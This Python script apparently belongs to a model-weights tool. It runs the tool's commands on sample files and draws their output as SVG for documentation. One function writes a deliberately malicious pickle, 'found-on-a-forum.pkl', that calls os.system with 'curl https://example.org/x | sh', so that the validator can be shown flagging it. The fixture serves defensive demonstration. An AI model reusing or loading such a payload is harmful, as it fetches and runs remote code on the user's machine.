#!/usr/bin/env python3
"""Record the command line for the README and the site: the real commands on real files, drawn as SVG.

    recordings.py [--models .models] [--out docs/terminal]

Each picture is one command and its output, in the page's colours, light or dark. A picture whose text differs only in
times is not rewritten.
"""

from __future__ import annotations

import argparse
import html
import io
import os
import re
import shlex
import shutil
import subprocess
import sys
import tempfile
from dataclasses import dataclass
from pathlib import Path

import numpy as np
from rich.console import Console
from rich.style import Style
from rich.text import Text

ROOT = Path(__file__).resolve().parents[1]
COLUMNS = 96
COLOURS = ("black", "red", "green", "yellow", "blue", "magenta", "cyan", "white")
ADVANCE, LINE, MARGIN = 8.1, 18, 14
"""Sizes in pixels: of a character, of a line, and of the margins."""

_TIME = re.compile(r"\b\d+(?:\.\d+)? (?:ns|µs|ms|s)\b")
_STYLE = """
text { font: 13.5px ui-monospace, SFMono-Regular, Menlo, Consolas, "DejaVu Sans Mono", monospace }
text { white-space: pre; fill: #1f2328 } rect { fill: #f6f8fa; stroke: #d1d9e0 }
.bold { font-weight: 700 } .dim { fill: #59636e } .red { fill: #c21f2c } .green { fill: #116329 }
.yellow { fill: #7d4e00 } .blue { fill: #0550ae } .magenta { fill: #8250df } .cyan { fill: #0a5f73 }
@media (prefers-color-scheme: dark) {
text { fill: #e6edf3 } rect { fill: #0d1117; stroke: #30363d }
.dim { fill: #9198a1 } .red { fill: #ff7b72 } .green { fill: #7ee787 }
.yellow { fill: #e3b341 } .blue { fill: #79c0ff } .magenta { fill: #d2a8ff } .cyan { fill: #76e3ea }
}"""


@dataclass(frozen=True)
class Recording:
    """One picture: its name, its alternative text, and the command."""

    name: str
    title: str
    command: str
    columns: int = COLUMNS


RECORDINGS = (
    Recording(
        "ls",
        "The tree of a checkpoint, with dtypes, shapes and sizes",
        "max-weights ls minilm.safetensors --lines 14",
        columns=72,
    ),
    Recording(
        "show",
        "Where a weight lies in its file, its statistics, and a histogram of its values",
        "max-weights show minilm.safetensors encoder.layer.0.attention.self.query.weight",
    ),
    Recording(
        "validate",
        "Three files are validated: one is clean, one would run code of a library, one is malicious",
        "max-weights validate minilm.safetensors silero_vad.jit found-on-a-forum.pkl",
    ),
    Recording(
        "diff",
        "The differences between a model and a fine-tune of it",
        "max-weights diff minilm.safetensors tuned.safetensors",
        columns=126,
    ),
    Recording(
        "convert",
        "What a conversion from GGUF to the names of Hugging Face would write",
        "max-weights convert smollm2-135m.Q4_1.gguf layer0.safetensors "
        "--select 'blk.0.*' --rename hf --dtype bfloat16 --dry-run",
    ),
)


def make_files(folder: Path, models: Path) -> None:
    """Put the files of the recordings into a folder: real ones, a fine-tune of one, and a malicious pickle."""
    from max_weights import save_file
    from max_weights.numpy import load_file

    for name in ("minilm.safetensors", "silero_vad.jit", "smollm2-135m.Q4_1.gguf"):
        shutil.copyfile(models / name, folder / name)  # `validate` warns of links that lead out of a folder
    tensors = load_file(models / "minilm.safetensors")
    for layer in (4, 5):
        for name in ("attention.self.query.weight", "output.dense.weight"):
            weight = tensors[f"encoder.layer.{layer}.{name}"]
            tensors[f"encoder.layer.{layer}.{name}"] = weight + weight * np.float32(layer / 512)
    tensors["classifier.weight"] = np.zeros((2, 384), np.float32)
    del tensors["embeddings.position_ids"]
    save_file(tensors, folder / "tuned.safetensors", metadata={"format": "pt"})
    call = b"cposix\nsystem\n(S'curl https://example.org/x | sh'\ntR."
    (folder / "found-on-a-forum.pkl").write_bytes(call)


def printed_by(recording: Recording, folder: Path) -> str:
    """Return a command's output in a terminal with colours."""
    program = [sys.executable, "-m", "max_weights", *shlex.split(recording.command)[1:], "--color", "always"]
    variables = {**os.environ, "COLUMNS": str(recording.columns), "LC_ALL": "C.UTF-8"}
    done = subprocess.run(program, cwd=folder, env=variables, capture_output=True, encoding="utf-8", check=False)
    if done.stderr:  # a nonzero status may be the result
        raise RuntimeError(f"{recording.command}: {done.stderr}")
    return done.stdout


def classes(style: Style) -> str:
    """Return the classes of a style: its colour, bold, dim."""
    colour = COLOURS[style.color.number % 8] if style.color and style.color.number is not None else None
    named = [name for name, there in (("bold", style.bold), ("dim", style.dim), (colour, colour)) if there and name]
    return " ".join(named)


def drawn(recording: Recording, output: str) -> str:
    """Return the SVG of a command and its output."""
    console = Console(file=io.StringIO(), width=recording.columns, color_system="standard", force_terminal=True)
    command = Text.assemble(("$ ", "dim"), (recording.command, "bold"))
    lines = [
        *command.wrap(console, recording.columns - 2),
        *Text.from_ansi(output.rstrip("\n")).split("\n", allow_blank=True),
    ]
    width = max(recording.columns, *(line.cell_len for line in lines)) * ADVANCE + 2 * MARGIN
    height = len(lines) * LINE + 2 * MARGIN
    rows = []
    for number, line in enumerate(lines, 1):
        parts, column = [], 0
        for segment in line.render(console):
            text = segment.text.rstrip("\n")
            if text.strip():
                named = classes(segment.style or Style())
                at = f'x="{MARGIN + column * ADVANCE:g}"' + (f' class="{named}"' if named else "")
                parts.append(f"<tspan {at}>{html.escape(text, quote=False)}</tspan>")
            column += len(text)
        rows.append(f'<text y="{MARGIN + number * LINE - 5}">{"".join(parts)}</text>')
    title = html.escape(recording.title)
    size = f'viewBox="0 0 {width:g} {height}" width="{width:g}" height="{height}"'
    head = f'<svg xmlns="http://www.w3.org/2000/svg" {size} role="img">'
    frame = f'<rect x=".5" y=".5" width="{width - 1:g}" height="{height - 1}" rx="8"/>'
    return "\n".join([head, f"<title>{title}</title>", f"<style>{_STYLE}</style>", frame, *rows, "</svg>\n"])


def without_times(picture: str) -> str:
    """Return a picture without the parts that depend on the machine."""
    return _TIME.sub("TIME", picture)


def record(models: Path) -> dict[str, str]:
    """Run all commands; return the pictures by their names."""
    with tempfile.TemporaryDirectory() as folder:
        make_files(Path(folder), models)
        return {recording.name: drawn(recording, printed_by(recording, Path(folder))) for recording in RECORDINGS}


def main(arguments: list[str] | None = None) -> int:
    """Run the command line; return its exit status."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--models", type=Path, default=Path(os.environ.get("MAX_WEIGHTS_MODELS", ROOT / ".models")))
    parser.add_argument("--out", type=Path, default=ROOT / "docs" / "terminal")
    options = parser.parse_args(arguments)
    options.out.mkdir(parents=True, exist_ok=True)
    for name, picture in record(options.models).items():
        path: Path = options.out / f"{name}.svg"
        if not path.exists() or without_times(path.read_text(encoding="utf-8")) != without_times(picture):
            path.write_text(picture, encoding="utf-8")
            print(path)
    return 0


if __name__ == "__main__":
    sys.exit(main())
